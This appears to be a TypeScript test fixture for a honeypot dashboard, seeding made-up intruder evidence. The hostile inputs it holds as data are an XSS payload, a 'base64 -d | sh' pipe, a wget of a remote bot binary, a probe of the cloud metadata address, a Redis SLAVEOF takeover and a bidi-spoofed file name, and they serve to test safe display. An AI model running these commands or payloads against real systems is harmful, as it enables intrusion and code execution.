// Fixed evidence for the dashboard's tests: what an intruder ordinarily does, and what one sends who knows about dashboards.
// Typed by the API's own types, so that it can't drift from them.

import type { Captured, EvidenceItem } from "../../src/api/types.ts";
import { isOwnKind } from "../../src/contract/evidence.ts";

export const text = (val: string): Captured => ({
  enc: "utf8",
  val,
  len: new TextEncoder().encode(val).length,
});

export const ulid = (n: number): string => `01JDEC${String(n).padStart(20, "0")}`;

/** What must stay text wherever it is shown. */
export const XSS = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
export const BIDI = "safe\u202egnp.exe\u0007\u001b[31m";
const LONG = `echo ${"A".repeat(900)} | base64 -d | sh`;

export const SESSION = ulid(7001);
export const SHA = "5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef";
const HASSH = "06046964c022c6407d15a27b12a6a4fb";

export const who = [
  "203.0.113.7",
  "198.51.100.23",
  "2001:db8:85a3::8a2e:370:7334",
  "192.0.2.99",
  "10.9.8.7",
] as const;
export const DRILL_IP = who[4];

/** What a record says; the rest has an ordinary value. */
export interface Seed {
  readonly kind: string;
  readonly data: Record<string, unknown>;
  readonly service?: string;
  readonly decky?: string;
  readonly ip?: string;
}

const key = {
  type: "ssh-ed25519",
  fingerprint: "SHA256:uNiVztksCsDhcc0u9e8BrQ",
  blob_base64: "AAAA",
  proven: true,
};

export const seeds: readonly Seed[] = [
  {
    kind: "decky.changed",
    ip: "192.0.2.10",
    data: {
      state: "running",
      previous: "starting",
      address: "192.0.2.10",
      mac: null,
      persona: { hostname: "srv-www-3", archetype: "web-server", os: "Debian GNU/Linux 12" },
      services: [],
    },
  },
  { kind: "outbound.dropped", ip: "192.0.2.10", data: { tcp: 3, other: 0 } },
  { kind: "evidence.lost", ip: "192.0.2.10", data: { count: 12, reason: "buffer-full" } },
  { kind: "connection.opened", data: {} },
  { kind: "client.identified", data: { via: "banner", software: text("SSH-2.0-libssh2_1.11.0") } },
  {
    kind: "client.fingerprinted",
    data: { family: "hassh", hash: HASSH, raw: text("curve25519-sha256;aes256-gcm") },
  },
  {
    kind: "auth.attempted",
    data: { method: "password", username: text("root"), secret: text("123456"), accepted: false },
  },
  { kind: "auth.attempted", data: { method: "publickey", username: text("ubuntu"), key, accepted: false } },
  {
    kind: "auth.attempted",
    data: { method: "password", username: text("admin"), secret: text("P@ssw0rd!"), accepted: true },
  },
  {
    kind: "command.executed",
    data: { command: text("uname -a; id; cat /proc/cpuinfo | grep name | wc -l"), via: "shell", status: 0 },
  },
  { kind: "command.executed", data: { command: text(XSS), via: "shell", status: 127 } },
  { kind: "command.executed", data: { command: text(LONG), via: "exec" } },
  { kind: "download.requested", data: { tool: "wget", url: text("http://198.51.100.66/bins/x86_64") } },
  {
    kind: "file.uploaded",
    data: { name: text(BIDI), sha256: SHA, size: 48_213, stored: 48_213, via: "scp" },
  },
  { kind: "tunnel.requested", data: { kind: "direct-tcpip", host: text("169.254.169.254"), port: 80 } },
  {
    kind: "terminal.recorded",
    data: { sha256: SHA, size: 9000, duration_ms: 61_000, width: 80, height: 24 },
  },
  {
    kind: "connection.closed",
    data: { reason: "client", duration_ms: 62_000, bytes_in: 1834, bytes_out: 18_340 },
  },
  {
    kind: "http.requested",
    service: "http",
    ip: who[1],
    data: {
      method: text("GET"),
      target: text("/wp-login.php?redirect_to=/.env"),
      version: "HTTP/1.1",
      headers: [],
      status: 404,
      response_bytes: 153,
    },
  },
  {
    kind: "takeover.attempted",
    service: "redis",
    decky: "db-02",
    ip: who[2],
    data: { technique: "redis-slaveof", detail: text("SLAVEOF 203.0.113.5 6380") },
  },
  {
    kind: "protocol.violated",
    service: "redis",
    decky: "db-02",
    ip: who[2],
    data: { violation: "bad-handshake", bytes: { enc: "base64", val: "FgMBAgD/", len: 600 } },
  },
  {
    kind: "file.read",
    service: "ftp",
    ip: who[3],
    data: { name: text("/var/backups/site.tar.gz"), size: 3_400_000, via: "ftp" },
  },
  { kind: "connection.refused", ip: who[3], data: { bound: "source", count: 40 } },
  {
    kind: "auth.attempted",
    ip: DRILL_IP,
    data: { method: "password", username: text("drill"), secret: text("drill"), accepted: false },
  },
  { kind: "connection.opened", ip: DRILL_IP, service: "http", data: {} },
];

/** One record; `seq` numbers it. */
export function evidence(seq: number, ts: number, seed: Seed): EvidenceItem {
  const service = seed.service ?? "ssh";
  const isOwn = isOwnKind(seed.kind);
  const ours = service === "ssh" && seed.ip === undefined;
  return {
    seq,
    id: ulid(seq),
    ts,
    sensor: "local",
    decky: seed.decky ?? "web-01",
    service,
    kind: seed.kind,
    session: ours ? SESSION : isOwn ? null : ulid(7002),
    src: { ip: seed.ip ?? who[0], port: 51_000 },
    dst: { ip: "192.0.2.10", port: 22 },
    transport: "tcp",
    data: seed.data,
    drill: seed.ip === DRILL_IP,
  };
}

/** A short terminal recording: a prompt, colours, an editor's screen, and an attempt on the page. */
export function recording(): string {
  const e = "\u001b";
  const events: [number, string, string][] = [
    [0.1, "o", `Linux srv-www-3 6.1.0-28-amd64\r\n\r\nadmin@srv-www-3:~$ `],
    [0.9, "o", "uname -a\r\nLinux srv-www-3 6.1.0-28-amd64 #1 SMP x86_64 GNU/Linux\r\nadmin@srv-www-3:~$ "],
    [
      1.6,
      "o",
      `ls --color\r\n${e}[1;34mbackup${e}[0m  ${e}[1;32mrun.sh${e}[0m  ${e}[38;5;208mnotes${e}[0m  ${e}[48;2;40;80;120m rgb ${e}[0m\r\nadmin@srv-www-3:~$ `,
    ],
    [
      31.0,
      "o",
      `vi notes\r\n${e}[?1049h${e}[2J${e}[H${e}[7m notes ${e}[0m\r\n漢字 ünïcode\r\n~\r\n~\r\n${e}[24;1H"notes" 2L`,
    ],
    [32.0, "o", `${e}[?1049l\r\nadmin@srv-www-3:~$ `],
    [32.5, "o", `echo '${XSS}'\r\n${XSS}\r\nadmin@srv-www-3:~$ `],
    [33.5, "o", "exit\r\nlogout\r\n"],
  ];
  return [{ version: 2, width: 80, height: 24, timestamp: 1_700_000_000 }, ...events]
    .map((line) => JSON.stringify(line))
    .join("\n");
}
